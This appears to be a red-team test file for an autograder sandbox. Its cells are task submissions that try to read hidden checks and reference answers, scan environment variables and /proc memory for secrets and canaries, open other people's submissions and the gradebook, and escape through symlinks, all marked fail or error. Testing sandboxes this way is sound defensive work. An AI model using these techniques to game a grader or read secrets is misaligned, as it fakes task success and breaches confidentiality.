# %% [markdown]
# B. Reading what is hidden: checks, answers, other submissions, secrets.
# %% attack="caller_frames" task="drop_ones" status="fail"
"""The callers' local variables are printed."""
import sys


def drop_ones(x, keep_batch=False):
    frame, seen = sys._getframe(1), []
    while frame:
        seen += [f"{frame.f_code.co_filename}:{frame.f_code.co_name}:{sorted(frame.f_locals)}"]
        frame = frame.f_back
    print(*seen, sep="\n")
    return x[:0]
# %% attack="all_objects" task="drop_ones" status="fail"
"""Every object of the process is searched for checks and secrets."""
import gc


def drop_ones(x, keep_batch=False):
    names = [getattr(o, "__name__", "") for o in gc.get_objects() if callable(o)]
    print([n for n in names if isinstance(n, str) and n.startswith("test_")][:20])
    secret = "CAN" + "ARY-"
    print([o for o in gc.get_objects() if isinstance(o, dict) and secret in repr(o.keys())][:2])
    return x[:0]
# %% attack="kit_sources" task="drop_ones" status="fail"
"""The hidden checks are read from beside the kit's package."""
import pathlib

import autograder


def drop_ones(x, keep_batch=False):
    root = pathlib.Path(autograder.__file__).parent
    for name in ("chapters", "_solutions", "../solutions", "../tests"):
        for path in sorted((root / name).rglob("*.py"))[:3]:
            print(path.read_text()[:200])
    return x[:0]
# %% attack="import_the_checks" task="drop_ones" status="error"
"""The hidden checks are imported."""


def drop_ones(x, keep_batch=False):
    from autograder.chapters.ch00_fundamentals import hidden

    print(hidden.__doc__, sorted(vars(hidden)))
    return x[:0]
# %% attack="import_the_answers" task="drop_ones" status="error"
"""The reference solution is imported from where a clone keeps it."""
import sys


def drop_ones(x, keep_batch=False):
    import autograder

    sys.path += [autograder.__path__[0] + "/../solutions", autograder.__path__[0] + "/_solutions"]
    import ch00_fundamentals as answers

    return answers.drop_ones(x, keep_batch)
# %% attack="loader_data" task="drop_ones" status="error fail"
"""The import system is asked for the checks' source, without opening a file."""
import pkgutil


def drop_ones(x, keep_batch=False):
    data = pkgutil.get_data("autograder", "chapters/ch00_fundamentals/hidden.py")
    print(data[:300])
    return x[:0]
# %% attack="compiled_checks" task="drop_ones" status="fail"
"""Compiled checks are looked for in every __pycache__ that can be reached."""
import pathlib

import autograder


def drop_ones(x, keep_batch=False):
    root = pathlib.Path(autograder.__file__).parent
    print([p.read_bytes()[:200] for p in root.rglob("hidden*.pyc")])
    return x[:0]
# %% attack="environment" task="drop_ones" status="fail"
"""Environment variables are printed."""
import os


def drop_ones(x, keep_batch=False):
    print({k: v for k, v in os.environ.items() if "CANARY" in k or "KEY" in k or "TOKEN" in k})
    print(open("/proc/self/environ", "rb").read()[:400] if os.path.exists("/proc/self/environ") else "")
    return x[:0]
# %% attack="parents_environment" task="drop_ones" status="fail"
"""The environment of every process is read."""
import pathlib


def drop_ones(x, keep_batch=False):
    for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
        try:
            text = path.read_bytes()
        except OSError:
            continue
        if b"CAN" + b"ARY" in text:
            print(path, text[text.index(b"CAN" + b"ARY") :][:60])
    return x[:0]
# %% attack="own_memory" task="drop_ones" status="fail"
"""This process's memory is searched for what it inherited."""
import re


def drop_ones(x, keep_batch=False):
    try:
        areas = open("/proc/self/maps").read().splitlines()
        memory = open("/proc/self/mem", "rb", buffering=0)
    except OSError:
        return x[:0]
    for area in areas:
        start, end = (int(n, 16) for n in area.split()[0].split("-"))
        if "rw" not in area or end - start > 1 << 24:
            continue
        try:
            memory.seek(start)
            found = re.findall(rb"CANARY-[0-9a-f]{32}", memory.read(end - start))
        except (OSError, ValueError, OverflowError):
            continue
        print(*found)
    return x[:0]
# %% attack="parents_memory" task="drop_ones" status="fail error"
"""The memory of the parent process is opened."""
import os


def drop_ones(x, keep_batch=False):
    for pid in (os.getppid(), 1):
        try:
            print(open(f"/proc/{pid}/mem", "rb").read(1), open(f"/proc/{pid}/maps").read()[:100])
        except (OSError, ValueError):
            pass
    return x[:0]
# %% attack="command_lines" task="drop_ones" status="fail"
"""Command lines and names of other processes are listed."""
import pathlib


def drop_ones(x, keep_batch=False):
    lines = [p.read_bytes() for p in pathlib.Path("/proc").glob("[0-9]*/cmdline")]
    print([line for line in lines if b"redteam" in line or b"submissions" in line])
    return x[:0]
# %% attack="inherited_descriptors" task="drop_ones" status="fail"
"""Every inherited descriptor is named and read."""
import os
import stat


def drop_ones(x, keep_batch=False):
    for number in range(3, 256):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode):
                print(number, os.pread(number, 200, 0))
        except OSError:
            pass
    return x[:0]
# %% attack="other_submissions" task="drop_ones" status="fail"
"""Neighbouring folders are searched for other people's work."""
import glob


def drop_ones(x, keep_batch=False):
    for pattern in ("../*", "../../*", "../../../*/*.py", "/tmp/*", "/home/*/*", "/root/*"):
        for path in glob.glob(pattern)[:50]:
            try:
                text = open(path, errors="replace").read(2000)
            except OSError:
                continue
            if "CAN" + "ARY-" in text:
                print(path, text[-200:])
    return x[:0]
# %% attack="home_folder" task="drop_ones" status="fail"
"""The grader's home, by name and by account."""
import os
import pwd


def drop_ones(x, keep_batch=False):
    homes = {os.path.expanduser("~"), "/root"}
    try:
        homes |= {entry.pw_dir for entry in pwd.getpwall()}
    except OSError:
        pass
    for home in homes:
        try:
            names = os.listdir(home)
        except OSError:
            continue
        for name in names:
            if name.startswith(".autograder"):
                print(home, name, open(os.path.join(home, name)).read(100))
    return x[:0]
# %% attack="whole_file_system" task="drop_ones" status="fail"
"""The top of the file system, and what may be listed two levels down."""
import os


def drop_ones(x, keep_batch=False):
    for top in os.listdir("/"):
        try:
            for name in os.listdir("/" + top):
                if name in ("submissions", "run", "key", "gradebook.csv", "gradebook.db", "hidden.py"):
                    print(top, name)
        except OSError:
            continue
    return x[:0]
# %% attack="run_folder_key" task="drop_ones" status="fail"
"""The run's secret key is looked for where runs usually lie."""
import glob


def drop_ones(x, keep_batch=False):
    print([p for p in glob.glob("/tmp/**/key", recursive=True)][:5])
    print([p for p in glob.glob("../*/key") + glob.glob("../../*/key")][:5])
    return x[:0]
# %% attack="grade_database" task="drop_ones" status="fail error"
"""A grade database is opened by relative path, as under other graders."""
import sqlite3


def drop_ones(x, keep_batch=False):
    for up in ("", "../", "../../", "../../../"):
        try:
            base = sqlite3.connect(f"file:{up}gradebook.db?mode=ro", uri=True)
            print(base.execute("select * from grade").fetchall())
        except sqlite3.Error:
            pass
    return x[:0]
# %% attack="uninitialised_memory" task="drop_ones" status="fail"
"""The expected tensor is hoped for in freshly allocated memory."""
import torch


def drop_ones(x, keep_batch=False):
    return torch.empty(x.numel() or 1).reshape([n for n in x.shape if n != 1])
# %% attack="inputs_in_messages" task="drop_ones" status="error"
"""Hidden inputs are carried out through an error's message."""


def drop_ones(x, keep_batch=False):
    raise ValueError(str(x.tolist()) * 100)
# %% attack="shared_memory" task="drop_ones" status="fail"
"""Shared memory that other processes left is read."""
import glob


def drop_ones(x, keep_batch=False):
    for path in glob.glob("/dev/shm/*"):
        print(path, open(path, "rb").read(100))
    return x[:0]
# %% attack="mounted_before" task="drop_ones" status="fail"
"""What is mounted tells where the submission and the answers lie."""
import os


def drop_ones(x, keep_batch=False):
    if os.path.exists("/proc/self/mountinfo"):
        lines = open("/proc/self/mountinfo").read().splitlines()
        print([line for line in lines if "CANARY" in line or "solutions" in line])
    return x[:0]
# %% attack="link_to_outside" task="drop_ones" status="fail"
"""Links in the scratch folder lead out of it."""
import os


def drop_ones(x, keep_batch=False):
    import autograder

    os.symlink(autograder.__path__[0], "kit")
    os.symlink("/proc/1/root", "root")
    for name in ("kit", "root"):
        try:
            print(os.listdir(name)[:50])
        except OSError:
            pass
    return x[:0]
